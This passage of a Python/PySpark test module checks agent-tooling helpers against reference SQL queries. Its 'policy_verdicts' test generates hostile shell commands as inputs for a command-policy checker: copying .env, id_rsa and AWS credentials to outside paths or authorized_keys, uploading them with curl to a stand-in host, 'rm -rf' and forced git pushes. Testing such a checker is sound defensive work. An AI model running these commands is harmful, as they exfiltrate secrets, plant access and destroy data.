    calls = _calls(spark, sf_dir).select("run_id", F.lit("2024-01-01").cast("timestamp_ntz").alias("ts"), "event_id", "tool")
    return sinks.generations(calls, 1000).select("event_id", "generation")


@query("""WITH p AS (SELECT p_partkey AS n FROM part) SELECT 'local' AS axis, CASE WHEN count(*) FILTER (WHERE n % 11 = 0 AND n % 10 <> 0) > 0 THEN 'fail' ELSE 'ok' END AS status, count(*) FILTER (WHERE n % 11 = 0 AND n % 10 <> 0) + count(*) FILTER (WHERE n % 7 = 0 AND n % 10 <> 0 AND n % 11 <> 0) AS n FROM p
UNION ALL SELECT 'upstream', 'cannot tell', count(*) FILTER (WHERE n % 10 <> 0) FROM p""")
def drift_checks(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part").select(F.col("p_partkey").alias("path"))
    recorded = p.where("path % 10 <> 0").select("path", F.lit("h").alias("tpl"), F.lit("h").alias("cur"))
    disk = p.where("path % 11 <> 0").select("path", F.when(F.col("path") % 7 == 0, "o").otherwise("h").alias("hash"))
    return upkeep.drift_status(upkeep.manifest_drift(recorded, disk, recorded.where("false").select("path", "tpl")), has_source=False)


@query("SELECT '' || p_partkey AS path, substr(sha256('t' || p_partkey), 1, 16) AS cur, CASE WHEN p_partkey % 3 = 0 THEN substr(sha256('t' || p_partkey), 1, 16) END AS tpl FROM part WHERE p_partkey % 10 < 8")
def manifest_entries(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, file=_PATH, text="'t' || " + _ID).select(F.concat_ws("/", "path", "file").alias("path"), "n", "text")
    told = upkeep.manifest_entries(rows, rows.where("n % 3 = 0"))
    return told.select(F.substring_index("path", "/", 1).alias("path"), "cur", "tpl")


@query(_CALLS + """, s AS (SELECT run_id, task_id AS task, count(*) AS calls FROM calls GROUP BY 1, 2)
SELECT run_id, task, calls, CASE WHEN CAST(task AS BIGINT) % 3 = 0 THEN 'done' WHEN CAST(task AS BIGINT) % 3 = 1 THEN 'pending' END AS status FROM s""")
def task_status(spark: SparkSession, sf_dir: str) -> DataFrame:
    calls = _calls(spark, sf_dir)
    docs = calls.where("CAST(task_id AS BIGINT) % 3 < 2").select("run_id", "task_id").distinct().withColumn("status", F.when(F.col("task_id").cast("long") % 3 == 0, "done").otherwise("pending"))
    return telemetry.with_status(telemetry.run_summary(calls, ()).where("level = 'task'"), docs).select("run_id", "task", "calls", "status")


@query(_CALLS + """, c AS (SELECT *, row_number() OVER (PARTITION BY run_id ORDER BY event_id) AS n FROM calls)
SELECT run_id, count(*) FILTER (WHERE n % 5 <> 0) AS calls, count(*) FILTER (WHERE n % 5 = 0) AS usage_events, round(coalesce(sum(res_chars) FILTER (WHERE n % 5 = 0), 0) / 1000.0, 6) AS cost_usd, CAST(coalesce(sum(event_id) FILTER (WHERE n % 5 = 0), 0) AS BIGINT) AS tokens_output FROM c GROUP BY run_id""")
def stored_costs(spark: SparkSession, sf_dir: str) -> DataFrame:
    from pyspark.sql import Window

    usage = F.row_number().over(Window.partitionBy("run_id").orderBy("event_id")) % 5 == 0
    zero = F.lit(0).cast("long")
    events = _calls(spark, sf_dir).withColumn("_u", usage).withColumns({
        "event": F.when(F.col("_u"), "usage"),
        "cost_usd": F.when(F.col("_u"), F.col("res_chars") / 1000.0),
        "tokens": F.when(F.col("_u"), F.struct(zero.alias("input"), F.col("event_id").alias("output"), zero.alias("cache_read"), zero.alias("cache_write"))),
    })
    return telemetry.run_summary(events, ()).where("level = 'run'").select("run_id", "calls", "usage_events", "cost_usd", "tokens_output")


@query("""WITH r AS (SELECT user_id AS id, ts, event_id, CASE event_type WHEN 'error' THEN 'fail' WHEN 'view' THEN 'odd' ELSE 'pass' END AS result FROM events),
k AS (SELECT *, row_number() OVER (PARTITION BY id ORDER BY ts DESC, '' || event_id DESC, result) AS n FROM r WHERE result <> 'odd')
SELECT id, max(result) FILTER (WHERE n = 1) AS last_run, string_agg(result, ',' ORDER BY n) FILTER (WHERE n BETWEEN 2 AND 11) || CASE WHEN count(*) <= 10 THEN ',old' ELSE '' END AS history FROM k GROUP BY id HAVING count(*) >= 2""")
def recorded_runs(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = F.col("event_type")
    runs = table(spark, sf_dir, "events").select(F.col("user_id").alias("id"), "ts", F.when(e == "error", "fail").when(e == "view", "odd").otherwise("pass").alias("result"), F.col("event_id").cast("string").alias("commit"))
    run = F.struct(F.lit("old").alias("result"), F.lit("c0").alias("commit"))
    cases = runs.select("id").distinct().withColumns({"last_run": run, "history": F.array().cast("array<struct<result:string,commit:string>>"), "expect": F.lit("kept")})
    told = registry.record(cases, runs).where("expect = 'kept'")
    own = runs.where("result <> 'odd'").groupBy("id").count().where("count >= 2").select("id")
    return told.join(own, "id", "left_semi").select("id", F.col("last_run.result").alias("last_run"), F.array_join(F.transform("history", lambda h: h["result"]), ",").alias("history"))


_YAML = "'# models' || chr(10) || 'models:' || chr(10) || '  default: m' || {i} || '  # note' || chr(10) || '  tester:' || chr(10) || 'other: 1' || chr(10) || '<<' || chr(10) || 'old' || chr(10) || '>>'".format(i=_ID)


@query("""SELECT p_partkey AS n, 'm' || p_partkey AS own, '' AS blank, 'models,other' AS top, '# models' || chr(10) || 'models:' || chr(10) || '  default: m' || p_partkey || '  # note' || chr(10) || '  tester:' AS section,
'# models' || chr(10) || 'models:' || chr(10) || '  default: m' || p_partkey || '  # note' || chr(10) || '  tester:' || chr(10) || 'other: 1' || chr(10) || '<<' || chr(10) || 'new $1\\' || p_partkey || chr(10) || '>>' AS replaced, p_partkey % 2 = 0 AS placeholder FROM part""")
def configuration_blocks(spark: SparkSession, sf_dir: str) -> DataFrame:
    t = F.col("text")
    keys = text.block_keys(t, "models")
    mark = F.when(F.col("n") % 2 == 0, "${X}").otherwise("x${X}")
    return _parts(spark, sf_dir, text=_YAML).select("n", F.try_element_at(keys, F.lit("default")).alias("own"), F.try_element_at(keys, F.lit("tester")).alias("blank"), F.array_join(text.top_keys(t), ",").alias("top"), documents.section_block(t, "models").alias("section"), text.replace_block(t, "<<", ">>", F.concat(F.lit("new $1\\"), "path")).alias("replaced"), text.is_placeholder(mark).alias("placeholder"))


@query("SELECT p_partkey AS n, CASE p_partkey % 2 WHEN 0 THEN 'a,b' ELSE 'a,b,c' END AS skills, p_partkey % 3 = 0 AS strict FROM part")
def allowed_skills(spark: SparkSession, sf_dir: str) -> DataFrame:
    skills = F.array(*map(F.lit, "abc"))
    rows = _parts(spark, sf_dir).select("n", F.col("path").alias("id"), F.when(F.col("n") % 2 == 0, "tester").otherwise("coder").alias("role"), F.lit(None).cast("string").alias("complexity"), F.lit(None).cast("int").alias("k"), skills.alias("skills_to_load"))
    done = tasks.resolve(rows, {"tester": "m", "coder": "m"}, ["m"], "m", "m", [], {}, allowed={"tester": ["b", "a", "z"]})
    keys = F.when(F.col("n") % 3 == 0, F.array(F.lit("a"))).otherwise(skills)
    return done.select("n", F.array_join("skills", ",").alias("skills"), tasks.is_strict_subset(keys, skills).alias("strict"))


@query("""SELECT coalesce(source, '') || '/' || doc_id AS path, CAST(CASE WHEN n_chars % 7 = 0 THEN 0 ELSE 2 END AS BIGINT) AS n FROM documents WHERE n_chars % 7 = 0 OR n_chars % 11 = 0
UNION ALL SELECT 'no file', NULL""")
def sweep_partition(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The proof that each file of a plan lies in one batch, told of a plan that lacks files, has some twice, and one that isn't there."""
    files = table(spark, sf_dir, "documents").select(F.concat_ws("/", F.coalesce("source", F.lit("")), "doc_id").alias("path"), F.coalesce("source", F.lit("")).alias("dir"), "n_chars")
    planned = filling.batches(files).where("n_chars % 7 <> 0")
    stray = planned.limit(1).withColumn("path", F.lit("no file"))
    return tasks.partition_faults(files, planned.unionByName(planned.where("n_chars % 11 = 0").withColumn("batch", F.col("batch") + 1)).unionByName(stray))


@query(_CALLS + """, run AS (SELECT 'all' AS run_id, task_id, ts, event_id, event_id % 10 = 3 AS warned, count(*) FILTER (WHERE event_id % 10 <> 3) OVER (PARTITION BY task_id ORDER BY ts, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS total FROM calls),
reached AS (SELECT *, CASE WHEN warned THEN 0 WHEN total >= 80 THEN 80 WHEN total >= 60 THEN 60 WHEN total >= 40 THEN 40 ELSE 0 END AS threshold, CASE WHEN warned AND event_id % 20 = 3 THEN 60 ELSE 0 END AS earlier FROM run),
told AS (SELECT *, coalesce(max(greatest(threshold, earlier)) OVER (PARTITION BY task_id ORDER BY ts, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS before FROM reached)
SELECT task_id, event_id, CAST(threshold AS BIGINT) AS threshold, CAST(total AS BIGINT) AS total FROM told WHERE threshold > before""")
def budget_after_warnings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Earlier warnings of this axis (or of none, which is calls) count, those of another don't."""
    warned = F.col("event_id") % 10 == 3
    calls = _calls(spark, sf_dir).withColumns({"run_id": F.lit("all"), "event": F.when(warned, "budget"), "axis": F.when(warned & (F.col("event_id") % 20 != 3), "result_chars"), "threshold": F.when(warned, 60).cast("long")})
    return guards.budget_events(calls, "calls", (40, 60, 80)).select("task_id", "event_id", "threshold", "total")


@query(_CALLS + """, k AS (SELECT event_id, ts, run_id, CASE WHEN event_id % 3 = 0 THEN task_id END AS task_id FROM calls)
SELECT l.event_id, CASE WHEN epoch_us(l.ts) - epoch_us(r.ts) <= 1200e6 THEN r.task_id END AS task_id FROM k l ASOF LEFT JOIN (SELECT * FROM k WHERE task_id IS NOT NULL) r ON l.run_id = r.run_id AND l.ts >= r.ts""")
def stream_last_known(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _stream(spark, sf_dir).withColumns({"run_id": F.date_format("ts", "yyyy-MM-dd"), "task_id": F.when(F.col("event_id") % 3 == 0, F.col("task_id"))})
    return budgets.consume(budgets.last_known_stream(rows, 1200.0), f"known-{uuid.uuid4().hex}").select("event_id", "task_id")


_LOG = "CASE p_partkey % 5 WHEN 0 THEN 'a/FEAT-' || {i} || '.jsonl' WHEN 1 THEN 'a/dispatch.jsonl' WHEN 2 THEN '_no-run.jsonl' WHEN 3 THEN 'a/FEAT-' || {i} || '.1.jsonl' ELSE 'a/notes' || {i} || '.txt' END".format(i=_ID)


@query("SELECT 'FEAT-' || p_partkey AS id FROM part WHERE p_partkey % 5 = 0")
def log_listing(spark: SparkSession, sf_dir: str) -> DataFrame:
    return readers.run_ids(_parts(spark, sf_dir, file=_LOG).select(F.col("file").alias("path")))


@query("""
WITH c AS (SELECT p_partkey AS n, p_partkey % 8 AS k FROM part)
SELECT 'c' || n AS id, unnest(CASE k WHEN 1 THEN ['uses the clock'] WHEN 2 THEN ['machine-local path', 'no expectation'] WHEN 3 THEN ['quarantined without a reason', 'id differs from the file name'] ELSE [] END) AS problem FROM c WHERE k NOT IN (4, 5)
UNION ALL SELECT NULL, 'unreadable' FROM c WHERE k = 4 UNION ALL SELECT 'twice', 'duplicate id' WHERE (SELECT count(*) FROM c WHERE k = 5) > 1
""")
def case_validation(spark: SparkSession, sf_dir: str) -> DataFrame:
    k, own = F.col("n") % 8, F.concat(F.lit("c"), "path")
    cases = _parts(spark, sf_dir).select(
        F.when(k == 5, "twice").when(k != 4, own).alias("id"), F.concat(F.when(k == 3, "other").when(k == 5, "twice").otherwise(own), F.lit(".md")).alias("filename"),
        F.when(k == 1, "echo $(date)").when(k == 2, "ls /home/me").otherwise("run x").alias("command"), F.lit("body").alias("body"),
        F.when(k == 3, "quarantined").otherwise("active").alias("status"), F.when(k == 3, " ").alias("flake_reason"), F.when(k != 2, 0).alias("exit_code"), F.lit(0).alias("n_assertions"),
    )
    return registry.case_problems(cases)


_NOTE = r"""CASE p_partkey % 3 WHEN 0 THEN '# Top' || chr(10) || '## Purpose' || chr(10) || 'What ' || {i} || chr(10) || '### Detail' || chr(10) || 'more' || chr(10) || '## Steps' || chr(10) || '- [ ] first' || chr(10) || '- [x] second ' || {i} || chr(10) || '| item | seen |' || chr(10) || '|---|---|' || chr(10) || '| one | 3 of ' || {i} || ' |' || chr(10) || '| a \\| b | 1 of 4 |' WHEN 1 THEN '## purpose' || chr(10) || chr(10) || '## Other' || chr(10) || 'x [§9, §' || {i} || ']' ELSE NULL END""".format(i=_ID)


@query("SELECT p_partkey AS n, CASE WHEN p_partkey % 3 = 0 THEN 'What ' || p_partkey || chr(10) || '### Detail' || chr(10) || 'more' END AS body FROM part")
def section_extract(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _parts(spark, sf_dir, text=_NOTE).select("n", evidence.section(F.col("text"), "purpose").alias("body"))


@query("SELECT '' || p_partkey AS path, CAST(line AS INTEGER) AS line, done, CASE WHEN done THEN 'second ' || p_partkey ELSE 'first' END AS item FROM part, (VALUES (7, false), (8, true)) AS v(line, done) WHERE p_partkey % 3 = 0")
def checklist_items(spark: SparkSession, sf_dir: str) -> DataFrame:
    return evidence.checklist(_parts(spark, sf_dir, text=_NOTE))


@query("SELECT '' || p_partkey AS path, CAST(line AS INTEGER) AS line, item, CAST(seen AS INTEGER) AS seen, CAST(CASE WHEN total = 0 THEN p_partkey ELSE total END AS INTEGER) AS total, seen < CASE WHEN total = 0 THEN p_partkey ELSE total END AS partial FROM part, (VALUES (11, 'one', 3, 0), (12, 'a | b', 1, 4)) AS v(line, item, seen, total) WHERE p_partkey % 3 = 0")
def table_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    return evidence.table_rows(_parts(spark, sf_dir, text=_NOTE)).select("path", "line", F.col("cells")[0].alias("item"), text.k_of_n(F.col("cells")[1]).alias("k")).select("path", "line", "item", "k.*")


@query("SELECT p_partkey AS n, CAST(unnest([9, p_partkey]) AS INTEGER) AS tag FROM part WHERE p_partkey % 3 = 1")
def section_tags(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _parts(spark, sf_dir, text=_NOTE).select("n", F.explode(text.section_tags(F.col("text"))).alias("tag"))


_SOURCE = """CASE p_partkey % 3 WHEN 0 THEN 'import x' || chr(10) || chr(10) || '@d' || chr(10) || 'def f' || {i} || '(a):' || chr(10) || '    s = ''{{''' || chr(10) || '    return a' || chr(10) || chr(10) || 'class C:' || chr(10) || '    def g(self):' || chr(10) || '        pass' || chr(10) || chr(10) || 'z = 1' WHEN 1 THEN 'export function h' || {i} || '() {{' || chr(10) || '  const s = "}}";' || chr(10) || '  return s;' || chr(10) || '}}' || chr(10) || 'interface T {{' || chr(10) || '}}' ELSE 'def no(): pass' END""".format(i=_ID)


@query("""SELECT '' || p_partkey AS path, CASE WHEN name IN ('f', 'h') THEN name || p_partkey ELSE name END AS name, kind, CAST(line AS INTEGER) AS line, CAST(end_line AS INTEGER) AS end_line
FROM part JOIN (VALUES (0, 'f', 'function', 3, 6), (0, 'C', 'class', 8, 10), (0, 'g', 'method', 9, 10), (1, 'h', 'function', 1, 4), (1, 'T', 'type', 5, 6)) AS v(k, name, kind, line, end_line) ON k = p_partkey % 3""")
def symbol_extract(spark: SparkSession, sf_dir: str) -> DataFrame:
    return evidence.symbols(_parts(spark, sf_dir, text=_SOURCE, ext="CASE p_partkey % 3 WHEN 0 THEN 'py' WHEN 1 THEN 'ts' ELSE 'txt' END"))


@query("""
WITH d AS (SELECT user_id AS item, trim(regexp_replace(event_type || ' ' || min(props), '[ \t\n]+', ' ', 'g')) AS command FROM events WHERE user_id % 3 > 0 GROUP BY user_id, event_type),
r AS (SELECT event_id, user_id AS item, CASE WHEN event_id % 7 > 0 THEN '  ' || event_type || '   ' || props END AS command FROM events)
SELECT event_id, item, coalesce(command, '') AS command, CASE WHEN command IS NULL THEN 'uncited' ELSE 'substituted' END AS status FROM r
WHERE item IN (SELECT item FROM d) AND NOT EXISTS (SELECT 1 FROM d WHERE d.item = r.item AND d.command = trim(regexp_replace(r.command, '[ \t\n]+', ' ', 'g')))""")
def undeclared_searches(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Each user's first properties of each event type are declared for two users in three; every event is a use, one in seven of none."""
    events = table(spark, sf_dir, "events")
    declared = events.where("user_id % 3 > 0").groupBy(F.col("user_id").alias("item"), "event_type").agg(F.concat_ws(" ", "event_type", F.min("props")).alias("command"))
    command = F.when(F.col("event_id") % 7 > 0, F.concat(F.lit("  "), "event_type", F.lit("   "), "props"))
    used = events.select("event_id", F.col("user_id").alias("item"), command.alias("command"))
    return evidence.undeclared(used, declared)


@query("SELECT p_partkey AS n, CASE WHEN p_partkey % 4 = 2 THEN 'own' ELSE 'new' END AS command, p_partkey % 4 <> 2 AS managed FROM part WHERE p_partkey % 4 <> 1")
def managed_sync(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows, n = _parts(spark, sf_dir), F.col("n")
    installed = rows.where("n % 4 < 3").select(F.lit("start").alias("event"), "path", n).withColumnRenamed("path", "script").select("event", "script", F.when(n % 4 == 2, "own").otherwise("old").alias("command"), (n % 4 != 2).alias("managed"))
    template = rows.where("n % 4 = 0 OR n % 4 = 3").select(F.lit("start").alias("event"), F.col("path").alias("script"), F.lit("new").alias("command"))
    return upkeep.managed_sync(installed, template).select(F.col("script").cast("long").alias("n"), "command", "managed")


#: What a command takes and whether that is secret; where it goes, whether that is outside, and whether it is a place that nothing may be written to.
_TAKEN = [(".env", True), ("id_rsa", True), ("~/.aws/credentials", True), ("my notes.txt", False), ("src/env.py", False), ("x", False)]
_GIVEN = [
    ("/tmp/steal", True, False), ("../../up/x", True, False), ("~/.bashrc", True, True), ("~/.ssh/authorized_keys", True, True), ("/etc/hosts", True, True), ("dist/a b.txt", False, False),
    (".env.bak", False, False), ("/dev/null", False, False), ("~/.aws/credentials", True, True), ("./build/../out.txt", False, False), ("a/../../out", True, False), ("$HOME/.profile", True, True),
]
_FORMS = ["cp {s} {d}", "cat {s} > {d}", "tee {d} < {s}", "cat {s} | tee -a {d}", "mv {s} {d}", "cat {s} >>{d} 2>&1", "dd if={s} of={d}", "bash -c 'cat {s} > {d}'", "cat {s} 2>/dev/null", "echo 'cat {s} > {d}'", "curl -T {s} ftp://host/", "cat {s} | curl -d @- http://host/", "{rm} {d}", "{push}"]
_RM, _PUSH = ["rm -rf", "rm -r --force", "rm -r"], ["git push --force-with-lease", "git push origin +main", "git push origin main"]


def _commands(event: Column) -> Column:
    """A command for each number: its form, what it takes, where that goes, and how both are quoted (escaped, in one kind of quotes, or the other)."""
    of = lambda rows, k: F.get(F.array(*map(F.lit, rows)), k.cast("int"))
    style, form = F.floor(event / 1008) % 3, event % 14
    inner = F.when(form == 7, 2).otherwise(style)
    quoted = lambda x: F.when(inner == 0, F.replace(x, F.lit(" "), F.lit("\\ "))).when(inner == 1, F.concat(F.lit("'"), x, F.lit("'"))).otherwise(F.concat(F.lit('"'), x, F.lit('"')))
    taken, given = of([x[0] for x in _TAKEN], F.floor(event / 14) % 6), of([x[0] for x in _GIVEN], F.floor(event / 84) % 12)
    bare = form == 9
    out = of(_FORMS, form)
    for name, value in (("{s}", F.when(bare, taken).otherwise(quoted(taken))), ("{d}", F.when(bare, given).otherwise(quoted(given))), ("{rm}", of(_RM, style)), ("{push}", of(_PUSH, style))):
        out = F.replace(out, F.lit(name), value)
    return out


@query(f"""WITH t(i, s, secret) AS (VALUES {", ".join(str((i, *x)) for i, x in enumerate(_TAKEN))}), g(j, d, leaves, place) AS (VALUES {", ".join(str((i, *x)) for i, x in enumerate(_GIVEN))}),
e AS (SELECT event_id AS n, event_id % 14 AS form, event_id // 1008 % 3 AS style, s, d, secret, leaves, place FROM events JOIN t ON i = event_id // 14 % 6 JOIN g ON j = event_id // 84 % 12)
SELECT n, CASE WHEN form < 8 AND secret AND leaves AND (s <> d OR form IN (3, 6)) THEN 'secret written outside' WHEN form < 8 AND place THEN 'sensitive place' WHEN form IN (10, 11) AND secret THEN 'secret sent out'
WHEN form = 12 AND style < 2 THEN 'recursive forced delete' WHEN form = 13 AND style < 2 THEN 'forced push' END AS reason FROM e UNION ALL SELECT -1 - page_id, CASE WHEN page_id % 3 = 0 THEN 'sensitive place' END FROM pages""")
def policy_verdicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Commands of every form, with every pair of operands and all kinds of quotes, over the events; written paths over the pages."""
    said = table(spark, sf_dir, "events").select(F.col("event_id").alias("n"), F.lit("command").alias("kind"), _commands(F.col("event_id")).alias("value"))
    page = F.col("page_id").cast("string")
    path = F.when(F.col("page_id") % 3 == 0, F.concat(F.lit("/etc/../etc/./"), page)).when(F.col("page_id") % 3 == 1, F.concat(F.lit("src/../../etc/"), page)).otherwise(F.concat(F.lit("notes/etc/"), page))
    written = table(spark, sf_dir, "pages").select((-1 - F.col("page_id")).alias("n"), F.lit("path").alias("kind"), path.alias("value"))
    return said.union(written).select("n", upkeep.verdict(F.col("kind"), F.col("value")).alias("reason"))


@query("""WITH RECURSIVE e AS (SELECT p_partkey AS a, CASE WHEN p_partkey % 5 = 0 AND p_partkey % 3 = 0 THEN p_partkey - 4 WHEN p_partkey % 5 > 0 THEN p_partkey + 1 END AS b FROM part),
w AS (SELECT a, b FROM e WHERE b IS NOT NULL UNION SELECT w.a, e.b FROM w JOIN e ON e.a = w.b WHERE e.b IS NOT NULL) SELECT '' || a AS id FROM w WHERE a = b""")
def cycle_nodes(spark: SparkSession, sf_dir: str) -> DataFrame:
    n = F.col("p_partkey")
    needs = F.when((n % 5 == 0) & (n % 3 == 0), n - 4).when(n % 5 > 0, n + 1)
    rows = table(spark, sf_dir, "part").select(n.cast("string").alias("id"), F.lit("pending").alias("status"), F.when(needs.isNotNull(), F.array(needs.cast("string"))).otherwise(F.array().cast("array<string>")).alias("depends_on"))
    return tasks.on_circles(rows)


@query(_CALLS + "SELECT run_id, coalesce(event, 'call') AS kind, count(*) AS n FROM (SELECT run_id, NULL AS event FROM calls UNION ALL SELECT run_id, 'dispatch' FROM calls WHERE tool = 'view') WHERE run_id = (SELECT min(run_id) FROM calls) GROUP BY 1, 2")
def run_isolation(spark: SparkSession, sf_dir: str) -> DataFrame:
    calls = _calls(spark, sf_dir)
    dispatch = calls.where("tool = 'view'").select("run_id", "ts", F.lit("dispatch").alias("event"))
    told = telemetry.run_report(calls.agg(F.min("run_id")).first()[0], calls, dispatch)
    return told.groupBy("run_id", F.coalesce("event", F.lit("call")).alias("kind")).agg(F.count("*").alias("n"))


@query("""
WITH h AS (SELECT l_orderkey AS id, count(*) AS n, count(*) FILTER (WHERE l_returnflag = 'A') AS failed, string_agg(l_suppkey, ',' ORDER BY l_linenumber, l_partkey, l_suppkey) AS commits FROM lineitem GROUP BY 1)
SELECT o_orderkey AS id, 'order ' || o_orderkey || ', for ' || o_custkey || ' # x' AS title, CAST(o_custkey % 7 AS INTEGER) AS exit_code, o_orderpriority || ',a, b,' || o_orderstatus AS assertions, o_orderstatus AS last_result, coalesce(n, 0) AS runs, coalesce(failed, 0) AS failed, coalesce(commits, '') AS commits
FROM orders LEFT JOIN h ON h.id = o_orderkey""")
def case_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Each order as a case document with nested keys, its lines as the history, read back."""
    line = table(spark, sf_dir, "lineitem").groupBy(F.col("l_orderkey").alias("o_orderkey")).agg(F.array_sort(F.collect_list(F.struct("l_linenumber", "l_partkey", "l_suppkey", "l_returnflag"))).alias("lines"))
    entry = lambda x: F.concat(F.lit("  - result: '"), x["l_returnflag"], F.lit("'\n    commit: "), x["l_suppkey"].cast("string"), F.lit("  # of a run\n"))
    history = F.coalesce(F.array_join(F.transform("lines", entry), ""), F.lit(""))
    orders = table(spark, sf_dir, "orders").join(line, "o_orderkey", "left")
    head = F.format_string("---\nid: %d\ntitle: \"order %d, for %d # x\"\nexpect:\n  exit_code: %d\n  assertions: [%s, \"a, b\", '%s']\n\nlast_run: {result: %s, commit: c1}\nhistory:\n", "o_orderkey", "o_orderkey", "o_custkey", F.col("o_custkey") % 7, "o_orderpriority", "o_orderstatus", "o_orderstatus")
    docs = orders.select(F.col("o_orderkey").alias("path"), F.concat(head, history, F.lit("---\nbody\nid: 0\n")).alias("text"))
    told = nested.cases(docs)
    runs = F.filter("history", lambda h: h["result"] == "A")
    return told.select(F.col("id").cast("long").alias("id"), "title", "expect.exit_code", F.array_join("expect.assertions", ",").alias("assertions"), F.col("last_run.result").alias("last_result"), F.size("history").cast("long").alias("runs"), F.size(runs).cast("long").alias("failed"), F.array_join(F.transform("history", lambda h: h["commit"]), ",").alias("commits"))
